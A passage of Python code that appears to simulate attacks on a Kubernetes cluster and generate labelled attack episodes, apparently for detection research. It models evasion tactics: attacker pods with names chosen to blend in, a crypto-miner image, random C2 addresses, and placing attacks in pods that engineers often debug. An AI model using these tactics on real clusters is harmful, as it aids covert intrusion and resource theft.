    "logwipe": (logwipe, lambda p: p.workload.archetype.key in ("wordpress", "php-fpm"), 0.8, 10),
    "stealth": (stealth, any_app, 5, 1),
    "npmsupply": (npmsupply, ci_node_job, 1.0, 2),
    "ptrace": (ptrace_inject, has_shell, 0.8, 10),
    "symlink": (symlink, lambda p: p.workload.archetype.key in ("php-fpm", "wordpress"), 0.6, 5),
    "devshm": (devshm, has_shell, 0.6, 5),
    "traversal": (traversal, lambda p: p.workload.archetype.key in ("php-fpm", "wordpress"), 1.0, 2),
}


def attacker_pod(rng, cluster, t, kind):
    """A pod the attacker created through the API with stolen credentials, named to blend in."""
    namespace = rng.choice(cluster.attacker_namespaces)
    if kind == "new-miner":
        name, image, tag, main = rng.choice((
            ("kube-metrics-cache", "docker.io/library/ubuntu", "22.04", ("sleep", "/usr/bin/sleep", "infinity")),
            ("node-cache-sync", "docker.io/metal3d/xmrig", "latest", ("xmrig", "/xmrig/xmrig", "")),
            ("cluster-health-agent", "docker.io/library/ubuntu", "24.04", ("sleep", "/usr/bin/sleep", "infinity"))))
        privileged, extra = False, {"attacker_image": "miner" if "xmrig" in image else "ubuntu"}
    else:
        name, image, tag, main = rng.choice((("debug-tools", "docker.io/library/alpine", "3.20", ("sleep", "/bin/busybox", "3600")),
                                             ("node-problem-helper", "docker.io/library/busybox", "1.37", ("sleep", "/bin/busybox", "infinity"))))
        privileged, extra = True, {}
    archetype = Archetype("attacker", image=image, tag=tag, user=ROOT, main=main, shell=("sh", "/bin/busybox"),
                          distro="debian" if "ubuntu" in image else "alpine", pkg="apt-get" if "ubuntu" in image else "apk")
    workload = Workload("Deployment", name, namespace, archetype, image, tag)
    node = rng.choice(cluster.nodes)
    pod = Pod(name=f"{name}-{names.template_hash(rng)}-{names.pod_suffix(rng)}", namespace=namespace, node=node, ip=node.pod_ip(),
              start=t - secs(rng, 2, 6), end=cluster.end, workload=workload, extra=extra)
    pod.containers[name] = Container(id=names.container_id(rng), name=name, image=image, tag=tag, start=t, pod=pod,
                                     privileged=privileged, caps=ALL_CAPS if privileged else "")
    workload.pods.append(pod)
    return pod


def episode_times(rng, cluster, count):
    """Spread over the window, about seven in ten in its second half, none in the last quarter hour."""
    span = cluster.end - cluster.start - 15 * MINUTE
    times = []
    for _ in range(count):
        half = 1 if rng.random() < 0.7 else 0
        times.append(cluster.start + int((half + rng.random()) * span / 2))
    return sorted(times)


def plan_episodes(rng, cluster, count, weights=None):
    """Choose kind, victim and start for each episode and play it."""
    weights = weights or {}
    kinds = list(KINDS)
    episodes = []
    for t in episode_times(rng, cluster, count):
        for _ in range(20):                                     # redraw when this kind has no victim now
            kind = rng.choices(kinds, [KINDS[k][2] * weights.get(k, 1.0) for k in kinds])[0]
            run, victims, _, minutes = KINDS[kind]
            c2 = f"{names.public_ip(rng)}:{rng.choice((443, 4444, 8443, 1337, 9001, 80))}"
            if victims == "node":
                node = rng.choice(cluster.nodes)
                emits = run(node, cluster, rng, t, c2)
                break
            if isinstance(victims, str):
                pod = attacker_pod(rng, cluster, t, victims)
            else:
                pods = cluster.alive(t, lambda p: victims(p) and p.end > t + minutes * MINUTE)
                if not pods:
                    continue
                pod = debugged_or_any(rng, pods)
            emits = run(Ctx(cluster, pod.workload, pod, pod.main), rng, t, c2)
            emits = [e for e in emits if e.t < min(pod.end, cluster.end)]
            break
        else:
            continue
        if emits:
            episodes.append(Episode(kind, t, sorted(emits, key=lambda e: e.t)[:MAX_EVENTS]))
    for number, episode in enumerate(sorted(episodes, key=lambda e: e.start), start=1):
        episode.id = f"ep-{number:04d}-{episode.kind}"
        for emit in episode.emits:
            emit.label = episode.id
    return episodes


def debugged_or_any(rng, pods):
    """Half the time the victim is a pod engineers often exec into, so the attacker's shell hides among theirs."""
    if rng.random() < 0.5:
        return rng.choices(pods, [p.workload.params.get("debug_weight", 1.0) ** 2 for p in pods])[0]
    return rng.choice(pods)
